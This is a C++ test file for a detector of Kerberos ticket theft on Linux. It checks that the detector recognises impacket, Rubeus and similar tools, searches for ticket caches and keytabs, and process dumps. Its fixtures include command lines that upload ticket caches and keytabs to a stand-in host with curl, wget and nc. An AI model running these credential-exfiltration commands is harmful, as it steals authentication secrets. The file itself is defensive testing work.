// SPDX-License-Identifier: Apache-2.0
#include "krbtrail/detect/tool_names.h"

#include <algorithm>
#include <array>
#include <random>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "krbtrail/detect/kusto_text.h"
#include "support/activity_builders.h"
#include "support/catch.h"

namespace krbtrail::detect {
namespace {

using Words = std::vector<std::string>;

constexpr auto kPython = "/usr/bin/python3.11";

// "ticket_specific getST", "generic secretsdump with a ticket", "… as an argument".
std::string words(const ToolName& tool) {
  if (!tool)
    return "none";
  return std::string{to_string(tool.kind)} + " " + std::string{tool.name} +
         (tool.uses_ticket ? " with a ticket" : "") + (tool.runs ? "" : " as an argument");
}

std::string tool_of(const std::string& exe, const Words& argv, const Settings& settings = {}) {
  return words(tool_name(test::process(exe, argv), settings));
}

TEST_CASE("a tool is known by its name, however it is started", "[detect][tool_names]") {
  const auto [exe, argv, expected] = GENERATE(table<std::string, Words, std::string>({
      {kPython, {"python3", "venv/getST.py", "-h"}, "ticket_specific getST"},
      {kPython, {"/usr/bin/python3", "venv/impacket-getST", "-h"}, "ticket_specific getST"},
      {kPython, {"python3", "-m", "impacket.examples.getST", "x"}, "ticket_specific getST"},
      {kPython, {"python3", "venv/GETUSERSPNS.PY"}, "ticket_specific GetUserSPNs"},
      {kPython,
       {"python3", "/usr/share/doc/python3-impacket/examples/ticketConverter.py", "a", "b"},
       "ticket_specific ticketConverter"},
      {kPython,
       {"python3", "getST.py", "-k", "-no-pass", "-spn", "host/a"},
       "ticket_specific getST with a ticket"},
      {"/usr/local/bin/kerbrute", {"kerbrute", "userenum"}, "ticket_specific kerbrute"},
      {"/tmp/tickey", {"./a"}, "ticket_specific tickey"},  // the exe tells, whatever argv says
      {"/usr/bin/bash", {"bash", "linikatzV2.sh"}, "ticket_specific linikatzV2"},
      {kPython, {"python3", "/usr/bin/minikerberos-getTGS"}, "ticket_specific minikerberos"},
      {"/usr/bin/mono-sgen", {"mono", "Rubeus.exe", "dump"}, "ticket_specific Rubeus"},
      {"/usr/bin/dash",
       {"/bin/sh", "/usr/bin/impacket-secretsdump", "-k", "-no-pass", "host"},
       "generic secretsdump with a ticket"},
      {kPython, {"python3", "examples/secretsdump.py", "host"}, "generic secretsdump"},
      {kPython, {"python3", "-m", "impacket.examples.secretsdump"}, "generic secretsdump"},
      {kPython,
       {"python3", "/usr/bin/nxc", "smb", "h", "--use-kcache"},
       "generic nxc with a ticket"},
      {"/opt/secretsdump_linux_x86_64", {"x"}, "generic secretsdump"},  // compiled
      {kPython, {"python3", "/usr/bin/certipy-ad", "find"}, "generic certipy"},
      {"/usr/bin/ruby3.1", {"ruby", "/usr/local/bin/evil-winrm", "-i", "h"}, "generic evil-winrm"},
      {kPython, {"python3", "smbclient.py", "-k", "h"}, "generic smbclient.py with a ticket"},
      // one shell line
      {"/usr/bin/bash", {"bash", "-c", "cd /opt; python3 getTGT.py x"}, "ticket_specific getTGT"},
      {"/usr/bin/bash", {"bash", "-c", "(cat a|./getTGT.py)"}, "ticket_specific getTGT"},
      {"/usr/bin/sudo", {"sudo", "python3", "getTGT.py"}, "ticket_specific getTGT"},
      // the tool that tells most
      {kPython, {"python3", "psexec.py", "getST.py"}, "ticket_specific getST"},
  }));
  CAPTURE(exe, argv);
  CHECK(tool_of(exe, argv) == expected);
}

TEST_CASE("what only resembles a tool's name is none", "[detect][tool_names]") {
  const auto [exe, argv, reason] = GENERATE(table<std::string, Words, std::string>({
      {kPython, {"python3", "mygetST.py"}, "the term goes on to the left"},
      {kPython, {"python3", "getSTx.py"}, "the term goes on to the right"},
      {kPython, {"python3", "load.py", "ticketer.csv"}, "a data file"},
      {kPython, {"python3", "load.py", "/data/cme/feed.csv"}, "a folder"},
      {kPython, {"python3", "my-psexec.py"}, "a generic name begins the file's name"},
      {"/usr/bin/smbclient", {"smbclient", "//h/share", "-k"}, "Samba's own"},
      {"/usr/bin/klist", {"klist", "-k"}, "an option alone"},
      {"/usr/bin/cp", {"cp", "/tmp/krb5cc_1000", "/tmp/x"}, "a ticket is no tool"},
  }));
  CAPTURE(exe, argv, reason);
  CHECK(tool_of(exe, argv) == "none");
}

TEST_CASE("a tool's name as an argument is told from its run", "[detect][tool_names]") {
  const auto [exe, argv, expected] = GENERATE(table<std::string, Words, std::string>({
      {"/usr/bin/grep",
       {"grep", "-c", "getST.py", "notes"},
       "ticket_specific getST as an argument"},
      {"/usr/bin/less", {"less", "getST.py"}, "ticket_specific getST as an argument"},
      {"/usr/bin/vim.basic", {"vim", "getST.py"}, "ticket_specific getST as an argument"},
      {"/usr/bin/dpkg", {"dpkg", "-L", "kerbrute"}, "ticket_specific kerbrute as an argument"},
      {kPython,
       {"python3", "/usr/bin/pip", "install", "certipy-ad"},
       "generic certipy as an argument"},
      {"/usr/bin/basename",
       {"basename", "/usr/bin/impacket-secretsdump"},
       "generic secretsdump as an argument"},
      {"/usr/bin/sudo",
       {"sudo", "-u", "bob", "less", "getST.py"},
       "ticket_specific getST as an argument"},
      {"/usr/bin/busybox", {"busybox", "cat", "getST.py"}, "ticket_specific getST as an argument"},
      {"/usr/bin/bash",
       {"bash", "-c", "grep getST.py notes"},
       "ticket_specific getST as an argument"},
      {"/usr/bin/bash",
       {"bash", "-c", "grep getST.py notes; ./getST.py"},
       "ticket_specific getST"},  // another command
      // An option's -k is grep's own.
      {"/usr/bin/grep", {"grep", "-k", "getST.py"}, "ticket_specific getST as an argument"},
      // A script's arguments do not make the script's name mere text.
      {kPython, {"python3", "-W", "ls", "getST.py"}, "ticket_specific getST"},
  }));
  CAPTURE(exe, argv);
  CHECK(tool_of(exe, argv) == expected);
}

TEST_CASE("a site's own tools are terms of a word", "[detect][tool_names]") {
  Settings settings;
  settings.tool_names = {"redteamtool", "/opt/kit/"};
  CHECK(tool_of("/usr/bin/bash", {"bash", "/srv/redteamtool.sh"}, settings) == "site redteamtool");
  CHECK(tool_of("/usr/bin/bash", {"bash", "/opt/kit/a"}, settings) == "site /opt/kit/");
  CHECK(tool_of("/usr/bin/bash", {"bash", "xredteamtool"}, settings) == "none");
}

TEST_CASE("where arguments are not recorded the command line's words stand in",
          "[detect][tool_names]") {
  activity::Process process = test::process(kPython, {});
  process.command_line = "python3 getST.py -k";
  process.command_line_source = activity::CommandLineSource::proctitle;
  CHECK(words(tool_name(process, Settings{})) == "ticket_specific getST with a ticket");
}

std::string discovery(const std::string& exe, const Words& argv) {
  const activity::Process process = test::process(exe, argv);
  const auto found = discovery_of(process);
  return found ? std::string{to_string(found->target)} + " " + std::string{found->word} : "none";
}

TEST_CASE("a search for tickets is known by its words", "[detect][tool_names]") {
  const auto [exe, argv, expected] = GENERATE(table<std::string, Words, std::string>({
      {"/usr/bin/find", {"find", "/tmp", "-name", "krb5cc_*", "-type", "f"}, "tickets krb5cc_*"},
      {"/usr/bin/ls", {"ls", "-la", "/tmp/krb5cc_1000"}, "tickets /tmp/krb5cc_1000"},
      {"/usr/bin/find", {"find", "/etc", "/home", "-name", "*.keytab"}, "keytabs *.keytab"},
      {"/usr/bin/find", {"find", "/", "-name", "*.ccache"}, "tickets *.ccache"},
      {"/usr/bin/plocate", {"locate", "keytab"}, "keytabs keytab"},
      {"/usr/bin/grep", {"grep", "-l", "KRB5CCNAME", "/proc/self/environ"}, "variable KRB5CCNAME"},
      {"/usr/bin/grep", {"grep", "-r", "x", "/proc/12/environ"}, "environments /proc/12/environ"},
      {"/usr/bin/cat", {"cat", "/proc/12/environ"}, "environments /proc/12/environ"},
      {"/usr/bin/cat", {"cat", "/proc/keys"}, "keys /proc/keys"},
      {"/usr/bin/busybox", {"busybox", "find", "/", "-name", "krb5cc_0"}, "tickets krb5cc_0"},
      // not a search
      {"/usr/bin/cp", {"cp", "/tmp/krb5cc_1000", "/tmp/x"}, "none"},
      {"/usr/bin/find", {"find", "/tmp", "-mtime", "+7"}, "none"},
      {"/usr/bin/ls", {"ls", "/home/alice/.cache/ccache"}, "none"},  // the compiler's
      {"/opt/krb5cc/find", {"/opt/krb5cc/find", "/tmp"}, "none"},    // where it lies itself
      {"/usr/bin/cat", {"cat", "/proc/meminfo"}, "none"},
      {"/usr/bin/cat", {"cat", "/home/alice/environ"}, "none"},
  }));
  CAPTURE(exe, argv);
  CHECK(discovery(exe, argv) == expected);
}

std::string dump(const std::string& exe, const Words& argv) {
  const activity::Process process = test::process(exe, argv);
  const auto found = process_dump_of(process);
  if (!found)
    return "none";
  return std::string{found->tool} + (found->pid ? " " + std::to_string(*found->pid) : "");
}

TEST_CASE("a dump of a process is known by its tool and its options", "[detect][tool_names]") {
  const auto [exe, argv, expected] = GENERATE(table<std::string, Words, std::string>({
      {"/usr/bin/bash", {"bash", "/usr/bin/gcore", "-o", "/var/tmp/core", "5601"}, "gcore 5601"},
      {"/usr/bin/gdb", {"gdb", "-q", "-batch", "-ex", "bt", "-p", "6309"}, "gdb 6309"},
      {"/usr/bin/gdb", {"gdb", "-p6309"}, "gdb 6309"},
      {"/usr/bin/gdb", {"gdb", "--pid=6309"}, "gdb 6309"},
      {"/usr/bin/gdb", {"gdb", "/usr/bin/sleep", "6309"}, "gdb 6309"},
      {"/usr/bin/gdb",
       {"gdb", "--batch", "-ex", "set height 0", "-ex", "attach 5601", "-ex",
        "gcore /var/tmp/core.5601"},
       "gdb 5601"},  // as gcore calls it
      {"/usr/bin/gdbserver", {"gdbserver", "--attach", ":1234", "77"}, "gdbserver 77"},
      {"/usr/bin/strace", {"strace", "-p", "77"}, "strace 77"},
      {"/usr/bin/lldb-14", {"lldb", "-p", "77"}, "lldb 77"},
      // no process but an own child
      {"/usr/bin/gdb", {"gdb", "/usr/bin/sleep"}, "none"},
      {"/usr/bin/gdb", {"gdb", "--args", "sleep", "x"}, "none"},
      {"/usr/bin/strace", {"strace", "ls"}, "none"},
      {"/usr/bin/ls", {"ls", "-p", "7"}, "none"},
  }));
  CAPTURE(exe, argv);
  CHECK(dump(exe, argv) == expected);
}

TEST_CASE("a ticket among the arguments is found in whatever stands around it",
          "[detect][tool_names]") {
  const auto [argv, expected] = GENERATE(table<Words, std::string>({
      {{"curl", "-T", "/tmp/krb5cc_1000", "http://h/drop"}, "user_ccache /tmp/krb5cc_1000"},
      {{"curl", "-F", "file=@/tmp/krb5cc_1000", "http://h"}, "user_ccache /tmp/krb5cc_1000"},
      {{"wget", "--post-file=/tmp/krb5cc_1000", "http://h"}, "user_ccache /tmp/krb5cc_1000"},
      {{"klist", "-c", "FILE:/tmp/krb5cc_1000"}, "user_ccache /tmp/krb5cc_1000"},
      {{"dd", "if=/etc/krb5.keytab", "of=/tmp/x"}, "keytab /etc/krb5.keytab"},
      {{"scp", "krb5cc_1000", "bob@h:up"}, "user_ccache krb5cc_1000"},
      {{"sh", "-c", "nc h 1 </tmp/krb5cc_1000"}, "user_ccache /tmp/krb5cc_1000"},
      {{"find", "/tmp", "-name", "krb5cc_*"}, "none"},
      {{"curl", "http://h/"}, "none"},
      {{"/tmp/krb5cc_1000"}, "none"},  // argv[0] names the program
      {Words{}, "none"},
  }));
  CAPTURE(argv);
  const activity::Process process = test::process("/usr/bin/x", argv);
  const auto found = ticket_argument(process, Settings{});
  CHECK((found ? std::string{to_string(found->ticket.kind)} + " " + std::string{found->path}
               : "none") == expected);
}

TEST_CASE("every exec that a tool, a search or a dump is seen in has a literal",
          "[detect][tool_names]") {
  const std::vector<std::string_view> literals = tool_literals();
  std::vector<std::string_view> fragments = literals;
  // Also what the literals may have forgotten.
  for (const std::string_view one : {"/usr/bin/",
                                     "find",
                                     "grep",
                                     "python3",
                                     ".py",
                                     "-",
                                     "_",
                                     " ",
                                     "x",
                                     "1",
                                     "-p",
                                     "attach 7",
                                     ";",
                                     "\xff",
                                     "-k",
                                     "get",
                                     "ST",
                                     "/proc/",
                                     "environ",
                                     "impacket-",
                                     "impacket.examples.",
                                     "gdb",
                                     "gcore",
                                     "lldb",
                                     "strace",
                                     "procdump",
                                     "gdbserver",
                                     "keys",
                                     "krb5cc",
                                     "keytab",
                                     ".kirbi",
                                     ".ccache",
                                     "psexec",
                                     "smbclient.py",
                                     "getTGT"})
    fragments.push_back(one);
  const std::uint32_t seed = std::random_device{}();
  CAPTURE(seed);
  std::mt19937 random{seed};
  const auto word = [&] {
    std::string made;
    for (std::size_t parts = 1 + random() % 3; parts > 0; --parts) {
      std::string fragment{fragments[random() % fragments.size()]};
      if (random() % 4 == 0)
        fragment.erase(random() % (fragment.size() + 1));
      made += fragment;
    }
    return made;
  };
  int seen = 0;
  for (int round = 0; round < 20'000; ++round) {
    Words argv;
    for (std::size_t count = random() % 5; count > 0; --count)
      argv.push_back(word());
    const activity::Process process = test::process("/usr/bin/" + word(), argv);
    if (!tool_name(process, Settings{}) && !discovery_of(process) && !process_dump_of(process))
      continue;
    ++seen;
    argv.push_back(process.exe);
    argv.push_back(process.comm);
    CAPTURE(argv);
    REQUIRE(std::ranges::any_of(argv, [&](const std::string& record) {
      return std::ranges::any_of(
          literals, [&](std::string_view literal) { return contains(record, literal); });
    }));
  }
  CHECK(seen > 1'000);
}

}  // namespace
}  // namespace krbtrail::detect
